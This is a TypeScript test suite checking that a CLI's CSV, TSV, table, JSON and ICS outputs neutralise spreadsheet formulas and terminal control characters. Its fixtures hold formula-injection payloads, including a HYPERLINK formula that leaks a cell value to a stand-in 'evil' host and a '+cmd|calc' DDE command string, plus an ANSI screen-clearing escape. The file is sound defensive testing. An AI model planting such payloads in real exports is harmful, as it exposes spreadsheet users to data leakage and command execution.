// Output that cannot attack its reader: text from the server with control characters, escape
// sequences or spreadsheet formulas reaches a terminal, a CSV/TSV file or a calendar harmless.
// Control characters are written as visible escapes (`\t`, `\r`, `\n`, `\x1b`, `\u009b`); CSV
// cells that a spreadsheet would run as a formula get a leading `'` (OWASP), numbers excepted;
// TSV, for scripts, carries the names as they are.

import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { CsvParser } from '../../src/bulk/input/csv.js';
import type { InputRow } from '../../src/bulk/input/index.js';
import { buildIcs } from '../../src/domain/ics.js';
import { readEvent } from '../../src/domain/records.js';
import type { Row } from '../../src/output/format.js';
import type { RecordListView } from '../../src/output/views.js';
import { render } from './helpers.js';

function records(rows: Row[]): RecordListView {
  return { kind: 'records', body: { data: rows }, rows, columns: ['id', 'name'] };
}

function parseCsv(text: string): InputRow[] {
  const parser = new CsvParser();
  const rows: InputRow[] = [];
  parser.push(text, (row) => rows.push(row));
  parser.end((row) => rows.push(row));
  return rows;
}

const C0_C1 = /[\u0000-\u001f\u007f-\u009f]/;

/** A tsv cell read back as docs/scripting.md says to: `\\`, `\t`, `\n`, `\r`, `\xHH` and `\uHHHH` each one character. */
function decodeTsvCell(cell: string): string {
  const named: Record<string, string> = { '\\': '\\', t: '\t', n: '\n', r: '\r' };
  return cell.replace(/\\(\\|t|n|r|x[0-9a-f]{2}|u[0-9a-f]{4})/g, (_, escape: string) => named[escape] ?? String.fromCharCode(parseInt(escape.slice(1), 16)));
}

describe('CSV and TSV cells a spreadsheet would run', () => {
  const names = ['=HYPERLINK("http://evil/"&A1,"x")', '+cmd|calc', '-2+3', '@SUM(A1)', '\tlead tab', '\rlead cr', "'=already quoted", 'plain', '-12.5', '+3', '1e5'];

  test('csv cells start with a quote; numbers stay numbers; tsv, for scripts, carries every name as it is', async () => {
    const { out: csv } = await render(records(names.map((name, i) => ({ id: -i, name }))), 'csv');
    const { out: tsv } = await render(records(names.map((name, i) => ({ id: -i, name }))), 'tsv');
    expect(csv.split('\n').slice(1, -1)).toEqual([
      `0,"'=HYPERLINK(""http://evil/""&A1,""x"")"`,
      `-1,'+cmd|calc`,
      `-2,'-2+3`,
      `-3,'@SUM(A1)`,
      `-4,"'\tlead tab"`,
      `-5,"'\rlead cr"`,
      `-6,''=already quoted`,
      '-7,plain',
      '-8,-12.5',
      '-9,+3',
      '-10,1e5',
    ]);
    const tsvNames = tsv.split('\n').slice(0, -1).map((line) => line.split('\t')[1]);
    expect(tsvNames).toEqual([`=HYPERLINK("http://evil/"&A1,"x")`, `+cmd|calc`, `-2+3`, `@SUM(A1)`, '\\tlead tab', '\\rlead cr', `'=already quoted`, 'plain', '-12.5', '+3', '1e5']);
  });

  test('import reads an exported cell back as it was', async () => {
    const { out } = await render(records(names.map((name, i) => ({ id: i, name }))), 'csv');
    expect(parseCsv(out).map((r) => r.values.name)).toEqual(names);
  });
});

describe('control characters in tables', () => {
  test('CR, TAB, ESC, DEL and C1 are shown escaped: a row cannot overwrite itself', async () => {
    const { out } = await render(records([{ id: 1, name: 'Tent\rEVIL\tx\u001b[2J\u007f\u009b' }]), 'table', { terminalWidth: 120 });
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(out).toContain('Tent\\rEVIL\\tx\\x1b[2J\\x7f\\u009b');
  });
});

describe('random control characters through every format (property)', () => {
  const controlChar = fc.integer({ min: 0, max: 0x9f }).map((code) => String.fromCharCode(code));
  const unit = fc.oneof(controlChar, fc.constantFrom('=', '+', '-', '@', ',', '"', ';', '\\', "'", 'a', ' ', '1', '.', 'é', '語'));
  const text = fc.string({ unit, maxLength: 12 });

  test('table, csv, tsv, json, ndjson, ics: nothing raw reaches the reader, and every machine format parses back', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 4 }), async (names) => {
        const rows = names.map((name, i) => ({ id: i + 1, name }));
        const view = records(rows);

        const table = (await render(view, 'table', { terminalWidth: 200 })).out;
        expect(table.replace(/\n/g, '')).not.toMatch(C0_C1);

        const tsv = (await render(view, 'tsv')).out;
        const lines = tsv.split('\n');
        expect(lines.pop()).toBe('');
        expect(lines).toHaveLength(rows.length);
        for (const line of lines) {
          expect(line.split('\t')).toHaveLength(2);
          expect(line.replace(/\t/g, '')).not.toMatch(C0_C1);
        }
        // A backslash of the value is written \\: every escape reads back as the one character it stands for.
        expect(lines.map((line) => decodeTsvCell(line.split('\t')[1]!))).toEqual(names);

        const csv = (await render(view, 'csv')).out;
        // RFC 4180, exact: control characters only inside quoted fields, and every name reads back as it was.
        expect(csv.replace(/"(?:[^"]|"")*"/g, '').replace(/\n/g, '')).not.toMatch(C0_C1);
        const parsed = parseCsv(csv);
        expect(parsed.map((r) => r.values.name)).toEqual(names);

        for (const format of ['json', 'ndjson'] as const) {
          const out = (await render(view, format)).out;
          expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
          const back = format === 'json' ? (JSON.parse(out) as { data: Row[] }).data : out.trim().split('\n').map((l) => JSON.parse(l) as Row);
          expect(back).toEqual(rows);
        }

        const start = '2027-06-12T14:00:00';
        const ics = await buildIcs(
          names.map((name, i) => ({
            event: readEvent({ id: i, eventName: name, eventStatusId: 1, startDate: start, endDate: start, customerName: name }, () => name),
            items: [name],
            total: '0.00',
            venue: name,
          })),
          'h',
          new Date(0),
          'UTC',
        );
        expect(ics.replace(/\r\n/g, '')).not.toMatch(C0_C1);
      }),
      { numRuns: 150 },
    );
  });
});
